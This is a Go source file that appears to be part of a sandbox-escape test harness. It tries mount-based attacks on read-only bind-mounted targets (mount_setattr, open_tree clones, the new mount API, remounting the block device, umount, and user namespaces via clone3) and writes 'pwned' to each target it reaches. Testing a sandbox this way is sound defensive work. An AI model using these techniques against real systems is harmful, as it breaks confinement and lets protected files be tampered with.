package main

// The attacks on the mounts themselves: the old mount API, the new one,
// and user namespaces.

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// attackMountSetattr clears MOUNT_ATTR_RDONLY on each target's bind.
func attackMountSetattr([]string) {
	for _, p := range cfg.Targets {
		attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
		err := unix.MountSetattr(unix.AT_FDCWD, p, unix.AT_RECURSIVE, &attr)
		if err != nil {
			blocked("mount_setattr clearing MOUNT_ATTR_RDONLY on "+p, err)
			continue
		}
		tryWrite("mount_setattr", p)
	}
}

// attackOpenTree clones the working directory's mount, without the binds
// beneath it and with them (then clearing read-only on the clone), and
// writes the targets through the clone.
func attackOpenTree([]string) {
	for _, recursive := range []bool{false, true} {
		flags := uint(unix.OPEN_TREE_CLONE | unix.OPEN_TREE_CLOEXEC)
		what := "open_tree(OPEN_TREE_CLONE) of " + cfg.Dir
		if recursive {
			flags |= unix.AT_RECURSIVE
			what += " with AT_RECURSIVE"
		}
		fd, err := unix.OpenTree(unix.AT_FDCWD, cfg.Dir, flags)
		if err != nil {
			blocked(what, err)
			continue
		}
		if recursive {
			attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
			unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH|unix.AT_RECURSIVE, &attr)
		}
		for _, p := range cfg.Targets {
			rel, _ := filepath.Rel(cfg.Dir, p)
			wfd, err := unix.Openat(fd, rel, unix.O_WRONLY|unix.O_APPEND, 0)
			if err == nil {
				_, err = unix.Write(wfd, []byte("pwned\n"))
				unix.Close(wfd)
			}
			report(what+" then write "+rel+" through it", err)
		}
		unix.Close(fd)
	}
}

// attackNewMountAPI moves each bind away from its target, reconfigures
// the bind's super block, mounts the block device that holds the working
// directory anew (and writes the targets through that mount), and mounts
// a tmpfs over a target.
func attackNewMountAPI([]string) {
	for _, p := range cfg.Targets {
		away := filepath.Join(os.TempDir(), "attacker-away-"+strconv.Itoa(os.Getpid()))
		os.WriteFile(away, nil, 0o644)
		err := unix.MoveMount(unix.AT_FDCWD, p, unix.AT_FDCWD, away, 0)
		os.Remove(away)
		if err != nil {
			blocked("move_mount of the bind on "+p, err)
		} else {
			tryWrite("move_mount of the bind away", p)
		}
		if fd, err := unix.Fspick(unix.AT_FDCWD, p, unix.FSPICK_CLOEXEC); err != nil {
			blocked("fspick "+p, err)
		} else {
			err = unix.FsconfigSetFlag(fd, "rw")
			unix.Close(fd)
			report("fspick and fsconfig rw of "+p, err)
		}
	}
	if src, fstype, root, point := device(cfg.Dir); src == "" {
		blocked("finding the block device of "+cfg.Dir, fmt.Errorf("none"))
	} else if fd, err := unix.Fsopen(fstype, unix.FSOPEN_CLOEXEC); err != nil {
		blocked("fsopen "+fstype, err)
	} else {
		var m int
		if err = unix.FsconfigSetString(fd, "source", src); err == nil {
			if err = unix.FsconfigCreate(fd); err == nil {
				m, err = unix.Fsmount(fd, unix.FSMOUNT_CLOEXEC, 0)
			}
		}
		unix.Close(fd)
		if err != nil {
			blocked("fsconfig and fsmount of "+src, err)
		}
		for _, p := range cfg.Targets {
			if err != nil {
				break
			}
			rel, _ := filepath.Rel(point, p)
			wfd, werr := unix.Openat(m, filepath.Join(strings.TrimPrefix(root, "/"), rel), unix.O_WRONLY|unix.O_APPEND, 0)
			if werr == nil {
				_, werr = unix.Write(wfd, []byte("pwned\n"))
				unix.Close(wfd)
			}
			report("fsmount of "+src+" then write "+p+" through it", werr)
		}
	}
	fd, err := unix.Fsopen("tmpfs", unix.FSOPEN_CLOEXEC)
	if err == nil {
		if err = unix.FsconfigCreate(fd); err == nil {
			var m int
			if m, err = unix.Fsmount(fd, unix.FSMOUNT_CLOEXEC, 0); err == nil {
				err = unix.MoveMount(m, "", unix.AT_FDCWD, cfg.Targets[0], unix.MOVE_MOUNT_F_EMPTY_PATH)
				unix.Close(m)
			}
		}
		unix.Close(fd)
	}
	report("fsopen, fsmount and move_mount of a tmpfs over "+cfg.Targets[0], err)
}

// device returns the block device that holds dir, its file system type,
// the root of the mount within it and the mount point, from
// /proc/self/mountinfo; "" when dir is on no block device.
func device(dir string) (src, fstype, root, point string) {
	var st unix.Stat_t
	mi, _ := os.ReadFile("/proc/self/mountinfo")
	if unix.Stat(dir, &st) != nil {
		return
	}
	dev := fmt.Sprintf("%d:%d", unix.Major(st.Dev), unix.Minor(st.Dev))
	for line := range strings.SplitSeq(string(mi), "\n") {
		pre, post, _ := strings.Cut(line, " - ")
		f, g := strings.Fields(pre), strings.Fields(post)
		if len(f) >= 5 && len(g) >= 2 && f[2] == dev && strings.HasPrefix(g[1], "/dev/") {
			return g[1], g[0], f[3], f[4]
		}
	}
	return
}

// attackUmount unmounts each target's bind.
func attackUmount([]string) {
	for _, p := range cfg.Targets {
		if err := unix.Unmount(p, unix.MNT_DETACH); err != nil {
			blocked("umount2 "+p, err)
			continue
		}
		tryWrite("umount2", p)
	}
}

// attackRemount remounts each target's bind read-write, and mounts the
// block device that holds the working directory with mount(2).
func attackRemount([]string) {
	for _, p := range cfg.Targets {
		if err := unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
			blocked("mount MS_REMOUNT|MS_BIND (read-write) "+p, err)
			continue
		}
		tryWrite("remount", p)
	}
	src, fstype, root, point := device(cfg.Dir)
	if src == "" {
		return
	}
	mnt, err := os.MkdirTemp("", "attacker-mnt-")
	if err != nil {
		blocked("making a mount point", err)
		return
	}
	defer os.Remove(mnt)
	if err := unix.Mount(src, mnt, fstype, 0, ""); err != nil {
		blocked("mount "+src+" on "+mnt, err)
		return
	}
	defer unix.Unmount(mnt, unix.MNT_DETACH)
	for _, p := range cfg.Targets {
		rel, _ := filepath.Rel(point, p)
		tryWrite("mount "+src, filepath.Join(mnt, strings.TrimPrefix(root, "/"), rel))
	}
}

// attackUserns makes new user and mount namespaces, with unshare and
// with clone3 (which seccomp cannot filter by flag), and tries the
// mount attacks from inside, where the step holds every capability.
func attackUserns([]string) {
	report("unshare(CLONE_NEWUSER|CLONE_NEWNS)", unix.Unshare(unix.CLONE_NEWUSER|unix.CLONE_NEWNS))
	for _, class := range []string{"umount", "remount", "mount-setattr", "open-tree"} {
		cmd := exec.Command(cfg.Self, class)
		cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
		cmd.SysProcAttr = &syscall.SysProcAttr{
			// CLONE_NEWTIME makes Go use clone3.
			Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWTIME,
			UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
			GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
		}
		err := cmd.Run()
		if err != nil && cmd.ProcessState == nil {
			blocked("clone3 into a new user namespace for "+class, err)
			continue
		}
		if cmd.ProcessState.ExitCode() == 3 {
			escaped = true
		}
	}
}
